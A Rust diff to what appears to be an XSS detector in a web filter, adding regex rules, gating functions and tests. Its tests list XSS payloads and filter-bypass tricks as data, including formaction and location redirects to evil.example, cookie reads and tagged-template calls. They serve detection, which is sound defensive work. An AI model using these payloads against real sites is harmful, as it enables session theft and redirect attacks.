@@ -50,12 +50,20 @@ fn js_call(b: &[u8], s: usize, _e: usize) -> bool {
     in_sorted(JS_CALLS, word_before(b, s, &mut buf))
 }
 
+/// Gate for a backquote: a sink called with a template ([`js_call`]), or a function called
+/// through one (``.call`${alert}1` ``, ``Function`x``` ``, ``Set.constructor`x``` ``).
+fn template_call(b: &[u8], s: usize, e: usize) -> bool {
+    let mut buf = [0u8; 24];
+    js_call(b, s, e) || matches!(word_before(b, s, &mut buf), b"call" | b"apply" | b"bind" | b"function" | b"constructor")
+}
+
 /// Gate for a dialog or `eval` named as a value, not called (`(alert)(1)`, `.map(alert)`,
-/// `onerror=alert;`): an opening parenthesis or `=` before it, a closing one, `;` or `,` after.
+/// `onerror=alert;`, `(0,eval)(x)`): an opening parenthesis, `=` or `,` before it, a closing
+/// one, `;` or `,` after.
 fn dialog_as_value(b: &[u8], s: usize, e: usize) -> bool {
     let before = b[..s].iter().rev().find(|c| !c.is_ascii_whitespace());
     let after = b[e.min(b.len())..].iter().find(|c| !c.is_ascii_whitespace());
-    matches!(before, Some(b'(' | b'=')) && matches!(after, Some(b')' | b';' | b','))
+    matches!(before, Some(b'(' | b'=' | b',')) && matches!(after, Some(b')' | b';' | b','))
 }
 
 /// Gate for `[`: indexing a global object (`top['al'+'ert']`, `self /*x*/ [`).
@@ -73,6 +81,12 @@ fn member_access(b: &[u8], _s: usize, e: usize) -> bool {
         i = skip_space_comments(b, i + 1);
     }
     matches!(b.get(i), Some(b'.' | b'['))
+}
+
+/// Gate for `location`: a member is accessed ([`member_access`]) or it is assigned
+/// (`";location='//evil.example'`).
+fn location_use(b: &[u8], s: usize, e: usize) -> bool {
+    member_access(b, s, e) || b.get(skip_space(b, e)) == Some(&b'=')
 }
 
 /// Gate for `behavior`: a CSS property (`behavior: url(..)`).
@@ -99,13 +113,13 @@ pub(crate) struct Xss {
 }
 
 /// Event handler names are `on` + a DOM event; a short list of prefixes keeps `one=`/`only=` out.
-const HANDLER: &str = r"on(?:[a-z]*(?:error|load|mouse|focus|blur|click|key|submit|change|input|toggle|begin|end|animation|transition|pointer|touch|drag|drop|resize|scroll|wheel|copy|cut|paste|before|after|hashchange|message|page|popstate|readystate|search|select|show|start|abort|can|play|pause|seek|progress|ended|invalid|reset|context|finish|bounce|activate|help|filterchange|move|propertychange|unload|ready|repeat|zoom|layout|open|close|loadstart|online|offline|storage|hover|data|contextmenu|gesture|time|rowenter|rowexit|stop|exit))[a-z]*";
+const HANDLER: &str = r"on(?:[a-z]*(?:error|load|mouse|focus|blur|click|key|submit|change|input|toggle|begin|end|animation|transition|pointer|touch|drag|drop|resize|scroll|wheel|copy|cut|paste|before|after|hashchange|message|page|popstate|readystate|search|select|show|start|abort|can|play|pause|seek|progress|ended|invalid|reset|context|finish|bounce|activate|help|filterchange|move|propertychange|unload|ready|repeat|zoom|layout|open|close|loadstart|online|offline|storage|hover|data|contextmenu|gesture|time|rowenter|rowexit|stop|exit|waiting|stalled|suspend|emptied|violation|capture))[a-z]*";
 
 impl Xss {
     pub fn new() -> Result<Xss, String> {
         // Browsers skip punctuation between an attribute name and its `=` (`onload!#$%=`).
         let tag_handler = format!(r#"<[a-z!?/][^>]*?[\s/"'`;:]{HANDLER}[!#$%&()*~+\-_.,:;?@\[/|\\\]^`]*\s*="#);
-        let quote_handler = format!(r#"(?:^|["'`]\s*|\s)/?{HANDLER}\s*=\s*[^\s]{{0,40}}?(?:\(|`|javascript|&#|\bx\b|>)"#);
+        let quote_handler = format!(r#"(?:^|["'`]\s*|[\s/])/?{HANDLER}\s*=\s*[^\s]{{0,40}}?(?:\(|`|javascript|&#|\bx\b|>)"#);
         let quote_handler_weak = format!(r#"["'`]\s*{HANDLER}\s*="#);
         let split_scheme = split_by_controls("javascript:");
         let table = [
@@ -114,7 +128,7 @@ impl Xss {
             (r#"(?:^|[\s"'`=(<>/,;])(?:j\s*a\s*v\s*a|v\s*b|l\s*i\s*v\s*e)\s*s\s*c\s*r\s*i\s*p\s*t\s*:(?:[^\s]|\s*[a-z_$][\w$.]*\s*[(`=])"#, Critical, 0.9, "script URL"),
             (split_scheme.as_str(), Critical, 0.9, "script URL split by control characters"),
             (r#"<[a-z][^>]*?=[^>]*?\b(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|atob|execscript)\s*[(`]"#, High, 0.85, "script call in a tag attribute"),
-            (r#"<\s*(?:[a-z0-9]+:)?(?:frame|frameset|object|embed|applet|base|import|isindex|xml|layer|ilayer|bgsound|portal|xss|handler|listener|vmlframe|stylesheet|transform)\b"#, High, 0.85, "active HTML element"),
+            (r#"<\s*(?:[a-z0-9]+:)?(?:frame|frameset|object|embed|applet|base|import|isindex|xml|layer|ilayer|bgsound|portal|xss|handler|listener|vmlframe|stylesheet|transform)\b|<\?\s*(?:import|xml-stylesheet)\b"#, High, 0.85, "active HTML element"),
             // Listed after the rule above, which wins a tie: see `EMBEDDED`.
             (r#"<\s*(?:[a-z0-9]+:)?(?:iframe|svg|math|style|template|animate|set|meta|link)\b"#, High, 0.85, EMBEDDED),
             // Elements whose content the parser reads as raw text: markup hidden inside them
@@ -122,12 +136,18 @@ impl Xss {
             (r#"<\s*(?:noscript|noembed|noframes|xmp|plaintext|listing)\b"#, High, 0.75, "raw-text HTML element"),
             (r#"xmlns(?::[a-z0-9_-]+)?\s*=\s*["'`]?\s*(?:https?://www\.w3\.org/(?:2001/xml-events|1999/xsl/transform)|urn:schemas-microsoft-com:(?:vml|xslt))"#, High, 0.85, "active XML namespace"),
             (r#"<[a-z][^>]*?[\s/"'`](?:datasrc|dataformatas|datafld)\s*="#, High, 0.85, "data binding attribute"),
+            // A button or input that sends its form elsewhere (`<button formaction=//evil.example>`).
+            (r#"<[a-z][^>]*?[\s/"'`]formaction\s*="#, High, 0.8, "form action override in a tag"),
+            // A URL a browser runs as a page or a script, wherever it lands (`src`, `href`,
+            // `location`): HTML, XHTML or script media types, or script right after `data:,`.
+            (r#"(?:^|[\s"'`=(,;])data:\s*(?:text/(?:html|javascript|ecmascript|xml)|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml))\s*[;,]|(?:^|[\s"'`=(,;])data:\s*,\s*[a-z_$][\w$.]*\s*[(`]"#, High, 0.8, "script data: URL"),
             (r#"(?:src|href|action|formaction|data|xlink:href|background|dynsrc|lowsrc|poster|code|codebase|content)\s*=\s*["'`]?\s*data:(?:[^,]*(?:html|svg|javascript|xml)|[^,]*base64|,)"#, High, 0.85, "data: URL in an attribute"),
             (quote_handler.as_str(), High, 0.85, "event handler after a quote"),
             (r#"<\s*/\s*(?:title|textarea|style|noscript|iframe|xmp|plaintext)\s*>"#, High, 0.8, "tag breakout"),
             (r#"["'`]\s*>\s*<\s*[a-z!/]"#, Medium, 0.8, "attribute breakout into a tag"),
-            (r#"(?:style\s*=|[{;]\s*[a-z-]*\s*:)[^>]*?(?:expression\s*\(|-moz-binding|behavior\s*:|javascript:|@import)"#, High, 0.8, "script in CSS"),
-            (r#"style\s*=\s*(?:"[^">]*?|'[^'>]*?|[^\s"'>]*?)(?:[a-z0-9]\[|\][a-z;:]|[a-z0-9]\s*\{\s*[a-z-]+\s*[;:]|\}\s*[a-z#.*-][a-z0-9-]*\s*[{:=]|url\s*\(\s*[^"'\s)]+(?:;|\s+[^\s)]))"#, High, 0.75, "CSS breakout in a style attribute"),
+            // Stronger than `EMBEDDED`, so a `<style>` element running script is no rich text.
+            (r#"(?:style\s*=|[{;]\s*[a-z-]*\s*:)[^>]*?(?:expression\s*\(|(?:-moz-)?binding\s*:|behavior\s*:|javascript:|@import)|-moz-binding\s*:\s*url\s*\("#, High, 0.86, "script in CSS"),
+            (r#"style\s*=\s*(?:"[^">]*?|'[^'>]*?|[^\s"'>]*?)(?:[a-z0-9]\[|\][a-z;:]|[a-z0-9]\s*\{\s*[a-z-]+\s*[;:]|\}\s*[a-z#.*-][a-z0-9-]*\s*[{:=]|url\s*\(\s*[^"'\s)]+(?:;|\s+[^\s)]))|style\s*=\s*(?:"[^">]*?'[^'">\n]*|'[^'>]*?"[^"'>\n]*)[\n\r\x0c][^"'>]*?;\s*[a-z-]+\s*:"#, High, 0.75, "CSS breakout in a style attribute"),
             (r"\+ad[wz]-|\+acia-|\+ajw-", High, 0.8, "UTF-7 encoded markup"),
             (r#"=\s*["'`]?\s*&\{[^}]*\}"#, High, 0.8, "JavaScript entity in an attribute"),
             ("[\u{bc}\u{fffd}]\\s*/?\\s*script\\b|\u{bc}\\s*/?\\s*(?:img|svg|iframe|body|style|input|object|embed)\\b", High, 0.8, "US-ASCII encoded markup"),
@@ -136,7 +156,13 @@ impl Xss {
             // After `',` only a dialog or eval: `'click', function(` and `'a', print(` are a
             // code snippet's argument list; so is a call on the next line (`')\nprint(`).
             (r#"(?:["'`]\s*[-+*/;|&)}\]]|;|\*/|-->)[ \t]*(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|atob|import|function|print|open)\s*[(`]|["'`]\s*,\s*(?:alert|prompt|confirm|eval|settimeout|setinterval|fetch|atob)\s*[(`]"#, High, 0.8, "quote breakout then script call"),
-            (r"^\s*(?:alert|prompt|confirm|atob|btoa|eval)\s*(?:\([^()]{0,64}\)|`[^`]{0,64}`)\s*;?\s*$", High, 0.75, "lone script call"),
+            // A string or attribute left to send the page elsewhere: to a URL, a script URL, or
+            // what the attacker's window name or the URL fragment holds (`";location=name;//`).
+            (r#"["'`]\s*[-+*/;|&)}\],][-+*/;|&)}\],\s]*(?:(?:window|document|top|self|parent)\s*\.\s*)?location(?:\s*\.\s*href)?\s*=\s*(?:["'`]\s*(?://|https?:|javascript:|data:)|(?:window\s*\.\s*)?name\b|location\s*\.\s*hash\b|document\s*\.\s*cookie\b)"#, High, 0.8, "quote breakout then redirect"),
+            // A function called by a tagged template instead of parentheses
+            // (``[].sort.call`${alert}1` ``, ``Function`alert\x281\x29``` ``).
+            (r"\.\s*(?:call|apply|bind)\s*`[^`]*`|\b(?:function|constructor)\s*`[^`]*`", High, 0.8, "function called through a template literal"),
+            (r"^\s*(?:alert|prompt|confirm|atob|btoa|eval)\s*(?:\([^()]{0,64}\)|`[^`]{0,64}`)\s*;?\s*$|^\s*(?:window\s*\.\s*)?print\s*\(\s*\)\s*;?\s*$", High, 0.75, "lone script call"),
             (r"\b(?:document|window|self|top|parent|frames|globalthis|this)\s*(?:/\*.*?\*/\s*)+[.\[]|\b(?:document|window)\s*\.\s*/\*", High, 0.8, "comment-obfuscated DOM access"),
             (r#"\b(?:self|top|parent|frames|globalthis|window|this|document)\s*\)?\s*\[\s*(?:["'`/]|[a-z_]+\s*\+)"#, High, 0.7, "obfuscated global object access"),
             (r#"(?:document\s*\)?\s*(?:\.\s*|\[\s*["'`])(?:cookie|domain|write|location)|window\s*\)?\s*(?:\.\s*|\[\s*["'`])(?:location|name|open)|\.\s*(?:inner|outer)html\s*=|fromcharcode|\bconstructor\s*\.\s*constructor|\blocation\s*\.\s*(?:href|hash|replace)\b|\bsrcdoc\s*=)"#, Medium, 0.8, "DOM sink"),
@@ -149,6 +175,10 @@ impl Xss {
         let strict = [
             (r#"\b(?:settimeout|setinterval|setimmediate|execscript)\s*\(\s*(?:["'`]|[a-z_$][\w$.]*\s*(?:\(|,\s*\d))"#, High, 0.7, "script timer given code"),
             (r#"\bimport\s*(?:\{[^}]*\}|\*\s*as\s+[a-z_$][\w$]*)\s*from\s*["'`]|\bimport\s*\(\s*["'`]"#, High, 0.7, "JavaScript module import"),
+            // A style sheet pulled in from elsewhere, and an SVG image as a data URL (SVG runs
+            // script when opened as a document): what page templates and avatar uploads in a
+            // JSON document carry, not a URL or form value.
+            (r#"@import\s*(?:url\s*\(|["'`])|(?:^|[\s"'`=(,;])data:\s*image/svg\+xml\s*[;,]"#, High, 0.7, "style sheet import or SVG data: URL"),
             // US-ASCII `<tag>` with the high bit set (`¼` `¾` are 0xBC 0xBE), which 7-bit
             // decoders turn back into markup; prose has these fractions apart (`¼ cup`), not
             // wrapped around a word. (A raw 0xBC byte is not UTF-8 and reads as U+FFFD, like any
@@ -157,11 +187,11 @@ impl Xss {
             // The cookie read into an expression, a document written, the page sent elsewhere, a
             // string built from character codes, a global indexed by a call (`self[atob(..)]`):
             // a page's script at work, which a sentence that names `document.cookie` is not.
-            (r#"document\s*\.\s*(?:cookie|domain)\s*[;+)\],]|[=+(,]\s*document\s*\.\s*(?:cookie|domain)\b|document\s*\.\s*write(?:ln)?\s*\(|(?:window|document|top|self|parent)\s*\.\s*location(?:\s*\.\s*href)?\s*=[^=]|\blocation\s*\.\s*href\s*=[^=]|\bstring\s*\.\s*fromcharcode\s*\(|\b(?:self|top|parent|frames|window|globalthis)\s*\[\s*[a-z_$][\w$]*\s*\(|[+=(,]\s*(?:localstorage|sessionstorage)\s*[.\[]"#, High, 0.7, "script reaching the DOM"),
+            (r#"document\s*\.\s*(?:cookie|domain)\s*[;+)\],]|[=+(,]\s*document\s*\.\s*(?:cookie|domain)\b|document\s*\.\s*write(?:ln)?\s*\(|(?:window|document|top|self|parent)\s*\.\s*location(?:\s*\.\s*href)?\s*=[^=]|\blocation\s*\.\s*href\s*=[^=]|\bstring\s*\.\s*fromcharcode\s*\(|\b(?:self|top|parent|frames|window|globalthis)\s*\[\s*[a-z_$][\w$]*\s*\(|[+=(,]\s*(?:localstorage|sessionstorage)\s*[.\[]|\.\s*(?:inner|outer)html\s*=\s*(?:(?:document\s*\.\s*)?location\b|document\s*\.\s*(?:cookie|url|referrer)\b|(?:window\s*\.\s*)?name\b)"#, High, 0.7, "script reaching the DOM"),
             // A dialog called through a global (`top.alert(1)`) or handed over as a value
             // (`(alert)(1)`, `[1].map(alert)`, `onerror=alert;throw 1`): the probes of a filter
             // bypass.
-            (r#"\b(?:window|self|top|parent|frames|globalthis|this)\s*\.\s*(?:alert|prompt|confirm|eval|execscript)\s*[(`]|\(\s*(?:alert|prompt|confirm|eval)\s*\)\s*[(`]|\.\s*(?:map|foreach|call|apply|then|find|filter|some|every)\s*\(\s*(?:alert|prompt|confirm|eval)\s*\)|\bon[a-z]+\s*=\s*(?:alert|prompt|confirm|eval)\s*[;,]"#, High, 0.75, "dialog reached through a global or passed as a value"),
+            (r#"\b(?:window|self|top|parent|frames|globalthis|this)\s*\.\s*(?:alert|prompt|confirm|eval|execscript)\s*[(`]|\(\s*(?:\d+\s*,\s*)?(?:alert|prompt|confirm|eval)\s*\)\s*[(`]|\.\s*(?:map|foreach|call|apply|then|find|filter|some|every)\s*\(\s*(?:alert|prompt|confirm|eval)\s*\)|\bon[a-z]+\s*=\s*(?:alert|prompt|confirm|eval)\s*[;,]"#, High, 0.75, "dialog reached through a global or passed as a value"),
         ];
         Ok(Xss { rules: Rules::new(Family::Xss, &table)?, strict_rules: Rules::new(Family::Xss, &strict)? })
     }
@@ -178,10 +208,13 @@ fn split_by_controls(word: &str) -> String {
 }
 
 /// Undoes what a script or style parser ignores: `/* ... */` comments (`document/**/.cookie`)
-/// and CSS escapes (`\28` is `(`, `\65 ` is `e`, `\x` is `x`). `None` when there is neither.
+/// and CSS escapes (`\28` is `(`, `\65 ` is `e`, `\x` is `x`); and the XML CDATA markers that
+/// split a tag for a filter but not for an XML parser (`<![CDATA[<]]>script`). `None` when
+/// there is none of these.
 fn script_fold(text: &str) -> Option<String> {
+    const CDATA: &str = "<![cdata[";
     let b = text.as_bytes();
-    if !b.contains(&b'\\') && !b.windows(2).any(|w| w == b"/*") {
+    if !b.contains(&b'\\') && !b.windows(2).any(|w| w == b"/*") && !text.contains(CDATA) {
         return None;
     }
     let mut out = String::with_capacity(text.len());
@@ -192,6 +225,8 @@ fn script_fold(text: &str) -> Option<String> {
                 Some(p) => i += 2 + p + 2,
                 None => break,
             },
+            b'<' if text[i..].starts_with(CDATA) => i += CDATA.len(),
+            b']' if text[i..].starts_with("]]>") => i += 3,
             b'\\' => {
                 let hex = b[i + 1..].iter().take(6).take_while(|c| c.is_ascii_hexdigit()).count();
                 if hex == 0 {
@@ -224,11 +259,11 @@ impl Check for Xss {
             lit("cript:"),
             gated("data:", data_url),
             gated("(", js_call),
-            gated("`", js_call),
+            gated("`", template_call),
             gated("[", js_global_index),
             gated("document", member_access),
             gated("window", member_access),
-            gated("location", member_access),
+            gated("location", location_use),
             lit("fromcharcode"),
             gated("alert", dialog_as_value),
             gated("prompt", dialog_as_value),
@@ -270,6 +305,60 @@ mod tests {
     use super::super::testing::*;
 
     #[test]
+    fn redirects_form_overrides_templates_and_script_urls() {
+        use crate::fields::Part;
+        for v in [
+            "\";location='//evil.example/x';//",
+            "'-top.location.href=\"javascript:x()\"-'",
+            "\"};location=name;//",
+            "x');document.location=location.hash//",
+            "<button formaction=//evil.example/steal>Go</button>",
+            "<input type=submit formaction=\"https://evil.example\">",
+            "[].sort.call`${alert}7`",
+            "Reflect.apply.call`${x}${y}`",
+            "Function`a\\x28b\\x29```",
+            "data:text/html;base64,PGI+eDwvYj4=",
+            "data: application/javascript,go()",
+            "data:,go(1)",
+            "a{-moz-binding:url(//evil.example/b.xml#c)}",
+            "<?import namespace=\"t\" implementation=\"#default#time2\">",
+            "<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/t.xsl\"?>",
+            "\"autofocus/onfocus=go(1)//",
+            "\" onwaiting=\"go(1)",
+            "print()",
+            "Set.constructor`go\\x28\\x29```",
+            "<div style=\"binding:url(//evil.example/x.xml#x)\">",
+            "<div style=\"font-family:'a&#10;;background:url(//evil.example/x)';\">",
+            "<foo><![CDATA[<]]>script<![CDATA[>]]>go()<![CDATA[<]]>/script<![CDATA[>]]></foo>",
+        ] {
+            assert!(flags("attack.xss", v), "{v}");
+            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
+        }
+        for v in ["@import url(//evil.example/x.css);", "data:image/svg+xml;base64,PHN2Zz4=", "(0,eval)(code)"] {
+            assert!(flags("attack.xss", v), "{v}");
+            assert!(!flags_in_json("attack.xss", v), "{v} in a JSON text field");
+        }
+        assert!(flags_in_json("attack.xss", "<style>*{x:expression(go(1))}</style>"), "a style element running script");
+        for v in [
+            "Set env = \"prod\"; location = \"eu-west\"",
+            "'Paris'; location='office 2'",
+            "data:image/png;base64,iVBORw0KGgo=",
+            "data: 42 rows, text/html output",
+            "call `make` then `make install`",
+            "the formaction attribute overrides the action",
+            "Please print() the page",
+            "@import is a CSS at-rule",
+            "Buy 2, eval later",
+            "print(total)",
+            "<p style=\"font-family:'Open Sans'\">\nline two; color: red</p>",
+            "<![CDATA[ 1 < 2 ]]>",
+            "binding: ctrl+s",
+        ] {
+            assert!(!flags("attack.xss", v), "{v}");
+        }
+    }
+
+    #[test]
     fn dialogs_through_globals_or_as_values() {
         for v in ["top.alert(1)", "window.confirm`1`", "(alert)(1)", "[1].map(alert)", "onerror=alert;throw 1", "x='+localStorage.token"] {
             assert!(flags("attack.xss", v), "{v}");
@@ -282,7 +371,7 @@ mod tests {
     #[test]
     fn script_reaching_the_dom_outside_json_text() {
         use crate::fields::Part;
-        for v in ["x'+document.cookie+'", "new Image().src='//e.example/?'+document.cookie", "document.write('<b>x</b>')", "window.location='//e.example'", "top.location.href = '//e.example'", "String.fromCharCode(88,83,83)", "self[atob('YWxlcnQ=')](1)"] {
+        for v in ["x'+document.cookie+'", "el.innerHTML=location.hash", "b.outerHTML = document.referrer", "new Image().src='//e.example/?'+document.cookie", "document.write('<b>x</b>')", "window.location='//e.example'", "top.location.href = '//e.example'", "String.fromCharCode(88,83,83)", "self[atob('YWxlcnQ=')](1)"] {
             assert!(flags("attack.xss", v), "{v}");
             assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
         }
@@ -321,6 +410,7 @@ mod tests {
             "¼b¾bold¼/b¾",
             "x%C2%BC/title%C2%BE",
             "\\u00bcp class=x\\u00be",
+            "\\xbcp\\xbehi\\xbc/p\\xbe",
         ] {
             assert!(flags("attack.xss", v), "{v}");
             assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
@@ -335,6 +425,7 @@ mod tests {
             "import duties from 'France'",
             "add ¼ cup flour and ¾ cup sugar",
             "1¼ hours, ¾ done",
+            "\\xbc\\xbc and \\xd0\\xbcp\\xd0\\xbe",
         ] {
             assert!(!flags("attack.xss", v), "{v}");
         }
